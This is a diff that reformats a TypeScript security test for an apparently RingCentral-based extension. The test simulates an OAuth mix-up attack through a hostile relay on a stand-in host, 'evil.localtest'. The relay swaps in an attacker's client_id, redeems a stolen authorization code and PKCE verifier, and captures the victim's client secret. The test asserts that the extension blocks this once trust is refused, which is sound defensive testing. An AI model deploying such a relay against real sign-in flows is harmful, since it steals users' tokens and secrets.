@@ -54,17 +54,31 @@ async function startHostileServer(emu: Emulator): Promise<HostileServer> {
     req.on('data', (chunk) => (body += chunk));
     req.on('end', async () => {
       const url = new URL(req.url ?? '/', 'http://b');
-      seen.push({ method: req.method ?? '', path: url.pathname, authorization: req.headers.authorization, body, query: url.search });
+      seen.push({
+        method: req.method ?? '',
+        path: url.pathname,
+        authorization: req.headers.authorization,
+        body,
+        query: url.search,
+      });
       if (url.pathname === '/restapi/oauth/authorize') {
         url.searchParams.set('client_id', ATTACKER_APP.clientId);
-        res.writeHead(302, { Location: `${emu.url}/restapi/oauth/authorize${url.search.replace(/^\?.*/, `?${url.searchParams}`)}` }).end();
+        res
+          .writeHead(302, {
+            Location: `${emu.url}/restapi/oauth/authorize${url.search.replace(/^\?.*/, `?${url.searchParams}`)}`,
+          })
+          .end();
         return;
       }
       if (url.pathname === TOKEN_PATH) {
         // Redeem the stolen code and verifier as the attacker's app, and answer so the sign-in looks fine.
         const form = new URLSearchParams(body);
         form.set('client_id', ATTACKER_APP.clientId);
-        const answer = await fetch(`${emu.url}${TOKEN_PATH}`, { method: 'POST', headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body: form.toString() });
+        const answer = await fetch(`${emu.url}${TOKEN_PATH}`, {
+          method: 'POST',
+          headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
+          body: form.toString(),
+        });
         res.writeHead(answer.status, { 'Content-Type': 'application/json' }).end(await answer.text());
         return;
       }
@@ -73,7 +87,11 @@ async function startHostileServer(emu: Emulator): Promise<HostileServer> {
   });
   await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
   const { port } = server.address() as AddressInfo;
-  return { url: `http://${HOSTILE_NAME}:${port}`, seen, close: () => new Promise((resolve) => server.close(() => resolve())) };
+  return {
+    url: `http://${HOSTILE_NAME}:${port}`,
+    seen,
+    close: () => new Promise((resolve) => server.close(() => resolve())),
+  };
 }
 
 /** The test's name resolution: evil.localtest is 127.0.0.1 (the Host header still says evil.localtest). */
@@ -83,7 +101,8 @@ function resolveHostile(url: string): string {
   return parsed.toString();
 }
 
-const fetchResolvingHostile: FetchLike = (url, init) => nodeFetchAdapter(resolveHostile(url), { ...init, headers: { ...init.headers, Host: new URL(url).host } });
+const fetchResolvingHostile: FetchLike = (url, init) =>
+  nodeFetchAdapter(resolveHostile(url), { ...init, headers: { ...init.headers, Host: new URL(url).host } });
 
 /** A browser that follows redirects hop by hop until it lands on the redirect URI (auto-approve is on). */
 async function browse(authorizeUrl: string): Promise<string> {
@@ -93,7 +112,10 @@ async function browse(authorizeUrl: string): Promise<string> {
     const response = await fetch(resolveHostile(url), { redirect: 'manual' });
     await response.arrayBuffer();
     const location = response.headers.get('location');
-    assert.ok(response.status === 302 && location, `the browser expected a redirect from ${url}, got ${response.status}`);
+    assert.ok(
+      response.status === 302 && location,
+      `the browser expected a redirect from ${url}, got ${response.status}`,
+    );
     url = new URL(location, url).toString();
   }
   throw new Error('too many redirects');
@@ -102,7 +124,14 @@ async function browse(authorizeUrl: string): Promise<string> {
 /** Sign In as the extension runs it; against B, with the client secret the victim typed for "their" server. */
 function signInThrough(server: string, trust: ScriptedTrust) {
   const clientSecret = server.includes(HOSTILE_NAME) ? VICTIM_SECRET : undefined;
-  const client = new RingCentralClient({ fetch: fetchResolvingHostile, server, clientId: ATTACKER_APP.clientId, clientSecret, timeoutMs: 5000, retries: 0 });
+  const client = new RingCentralClient({
+    fetch: fetchResolvingHostile,
+    server,
+    clientId: ATTACKER_APP.clientId,
+    clientSecret,
+    timeoutMs: 5000,
+    retries: 0,
+  });
   const pending = new PendingAuthorizations();
   const opened: string[] = [];
   const run = runAuthorizationCodeFlow(
@@ -162,7 +191,10 @@ describe('OAuth mix-up: a workspace points ringcentral.server at a hostile relay
       const token = hostile.seen.find((request) => request.path === TOKEN_PATH);
       assert.ok(token, 'after the user confirmed B, B is the token endpoint');
       assert.ok(new URLSearchParams(token.body).get('code_verifier'));
-      assert.equal(token.authorization, `Basic ${Buffer.from(`${ATTACKER_APP.clientId}:${VICTIM_SECRET}`).toString('base64')}`);
+      assert.equal(
+        token.authorization,
+        `Basic ${Buffer.from(`${ATTACKER_APP.clientId}:${VICTIM_SECRET}`).toString('base64')}`,
+      );
       await signInThrough(hostile.url, trust).run;
       assert.equal(trust.asked.length, 1, 'asked once for this host');
       assert.deepEqual([...trust.remembered], [new URL(hostile.url).host]);
@@ -196,7 +228,11 @@ describe('OAuth mix-up: a workspace points ringcentral.server at a hostile relay
         ['/restapi/oauth/authorize', '/restapi/oauth/authorize'],
         'B saw the pre-flight and the browser, never the token request',
       );
-      assert.ok(hostile.seen.every((request) => !request.authorization && request.body === '' && !/code_verifier|[?&]code=/.test(request.query)));
+      assert.ok(
+        hostile.seen.every(
+          (request) => !request.authorization && request.body === '' && !/code_verifier|[?&]code=/.test(request.query),
+        ),
+      );
       assert.equal(tokenRequestsAt(ctx.emu), 0);
     });
 
